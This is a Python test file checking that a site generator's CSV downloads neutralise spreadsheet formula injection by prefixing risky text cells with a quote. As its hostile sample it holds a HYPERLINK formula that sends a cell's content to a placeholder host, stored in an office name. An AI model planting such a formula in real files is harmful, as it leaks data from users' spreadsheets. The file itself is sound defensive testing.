"""A text cell of a CSV download never starts a formula in a spreadsheet program (OWASP: a cell
beginning with =, +, -, @, tab or carriage return gets a leading single quote); numbers stay
numbers, negative ones too."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from generator import downloads
from generator.dataset.load import load_dataset
from generator.pages.site import areas_with_pages

OFFICE_NAME = '=HYPERLINK("https://contoh.invalid/?d="&A1,"Kantor Cabang Blitar")'
AUTHOR = "@Samsul"


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _csv_files(data: Path) -> list[bytes]:
    """Every CSV a reader downloads: each area's, and the two in the whole dataset's zip."""
    dataset = load_dataset(data)
    files = downloads.download_files(dataset, areas_with_pages(dataset))
    with zipfile.ZipFile(io.BytesIO(files[downloads.WHOLE_CSV])) as archive:
        whole = [archive.read(name) for name in archive.namelist() if name.endswith(".csv")]
    return [*whole, *(content for path, content in files.items() if path.endswith(".csv"))]


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Kantor Cabang Blitar", "Kantor Cabang Blitar"),
        (-1.5, "-1.5"),  # a number, not text: a spreadsheet reads it as -1.5
        (-3, "-3"),
        (None, ""),
        (True, "true"),
    ],
)
def test_text_cells_that_start_a_formula_are_quoted(value: object, cell: str) -> None:
    (row,) = csv.reader([f"x,{downloads._csv_cell(value)},y"])
    assert row == ["x", cell, "y"]


def test_a_hostile_office_name_and_author_are_neutralised(mini_data: Path) -> None:
    _edit(mini_data / "offices.yaml", "name: Kantor Cabang Blitar", f"name: '{OFFICE_NAME}'")
    _edit(mini_data / "sources.yaml", "author: Penulis Uji", f"author: '{AUTHOR}'")
    files = _csv_files(mini_data)
    assert len(files) > 5
    rows = [row for content in files for row in _rows(content)]
    names = {row["area_name"] for row in rows if row.get("area") == "kantor-cabang-blitar"}
    assert names == {"'" + OFFICE_NAME}
    assert {
        row["source_author"]
        for row in rows
        if row.get("source_author") and row["source_id"] == "uji-kota-2023-06-09"
    } == {"'" + AUTHOR}
    assert all(not row[column].startswith(tuple("=+-@\t\r")) for row in rows for column in row)
    assert all(
        float(row["value"]) >= 0 for row in rows if "value" in row
    )  # values are still plain numbers
